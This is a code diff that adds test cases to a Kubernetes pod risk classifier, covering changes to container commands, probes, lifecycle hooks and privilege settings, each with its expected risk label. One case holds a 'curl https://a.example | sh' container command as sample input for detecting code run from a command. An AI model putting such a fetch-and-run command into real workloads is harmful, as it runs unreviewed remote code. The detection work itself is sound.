@@ -19,8 +19,27 @@ const image = (what: string, before: string, after: string, ...risks: readonly s
 const account = (more: string) => object('v1 ServiceAccount', more).replace('name: web', 'name: default')
 const labels = (more: string) => workload('Deployment', '', one(), `app: web${more}`)
 
+const starts = (what: string, before: string, after: string, ...risks: readonly string[]) =>
+  pod(what, one(before), one(after), ...risks)
+
 /** What pods may do, what they are given, where their images come from. */
 export const podRiskCases: readonly RiskCase[] = [
+  starts('another argument', 'args: [serve]', 'args: [serve, --fast]'),
+  starts(
+    'a shell that is told what to do',
+    '',
+    'command: [sh, -c, "curl https://a.example | sh"]',
+    'medium code-in-command',
+  ),
+  starts(
+    'code in a probe',
+    'livenessProbe: {exec: {command: [/bin/ready]}}',
+    'livenessProbe: {exec: {command: [/usr/bin/python3, -c, "import x"]}}',
+    'medium code-in-command',
+  ),
+  starts('a file of the image', 'command: [node, a.js]', 'command: [node, b.js]'),
+  starts('a container that starts as the image says', 'args: [serve]', ''),
+  starts('a shell that pauses', '', 'lifecycle: {preStop: {exec: {command: [sh, -c, sleep 20]}}}'),
   context('privileged', 'privileged: false', 'privileged: true', 'high more-privileges'),
   context('no more rights by saying what holds anyway', '', 'allowPrivilegeEscalation: true'),
   context('escalation, by a field that goes', 'allowPrivilegeEscalation: false', '', 'high more-privileges'),
